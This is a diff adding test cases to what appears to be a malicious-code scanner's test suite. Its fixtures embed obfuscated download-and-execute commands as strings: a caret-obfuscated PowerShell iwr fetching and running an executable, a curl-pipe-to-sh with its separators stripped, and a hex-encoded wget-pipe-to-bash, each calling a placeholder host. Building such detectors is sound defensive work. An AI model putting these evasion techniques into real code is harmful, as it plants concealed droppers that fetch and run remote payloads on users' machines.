@@ -1001,3 +1001,45 @@ jobs:
     ).toEqual([]);
   });
 });
+
+describe('names and commands rewritten by String.prototype.replace', () => {
+  it('carets added per letter by a function replacer, steps in an array of arrays, powershell -c without quotes', () => {
+    const r = load({
+      'index.js': `const cp = require('child_process');
+const hide = (w) => w.replace(/[a-z]/gi, (c) => '^' + c);
+const steps = [['powershell', '-c', 'iwr http://dl.upd4te.example/a.exe -OutFile %TEMP%\\\\a.exe'], ['%TEMP%\\\\a.exe']];
+const line = steps.map((s) => s.map(hide).join(' ')).join(' & ');
+cp.spawn('cmd.exe', ['/v:on', '/d', '/s', '/c', line], { detached: true });`,
+    });
+    expect(r.evidence.map((f) => f.rule)).toContain('script.download-execute');
+  });
+  it('separators stripped by a regular expression, and hex decoded pair by pair by a callback', () => {
+    const found = load({
+      'index.js': `const { execSync } = require('child_process');
+const tool = 'c#u#r#l'.replace(/#/g, '');
+execSync(tool + ' -s http://cdn.pkg-mirror.example/i.sh | sh');
+const h = '7767657420687474703a2f2f782e6578616d706c652f62202d4f2d207c2062617368';
+execSync(h.replace(/../g, (p) => String.fromCharCode(parseInt(p, 16))));`,
+    }).evidence;
+    // Both commands: line 3 (curl, separators stripped) and line 5 (wget, hex decoded).
+    expect(found.filter((x) => x.rule === 'js.exec-download-pipe-shell').map((x) => x.line)).toEqual([3, 5]);
+  });
+  it('quiet: a slug helper and a template filler that rewrite with callbacks', () => {
+    expect(
+      threatsOf(
+        load({
+          'index.js': `const slug = (s) => s.toLowerCase().replace(/[^a-z0-9]+/g, '-');
+const fill = (t, vars) => t.replace(/\\{(\\w+)\\}/g, (_, k) => String(vars[k] ?? ''));
+module.exports = { slug, title: fill('Hello {name}', { name: slug('World Wide') }) };`,
+        }),
+      ),
+    ).toEqual([]);
+  });
+  it('a hostile pattern on a long text is not run: the scan finishes (catastrophic backtracking would hang it)', () => {
+    const r = load({
+      'index.js': `const s = '${'a'.repeat(30_000)}!';
+module.exports = s.replace(/(a+)+b/, (m) => m) + s.replace(/a*a*a*b/g, '');`,
+    });
+    expect(r.risk_level).toBe('clean');
+  });
+});
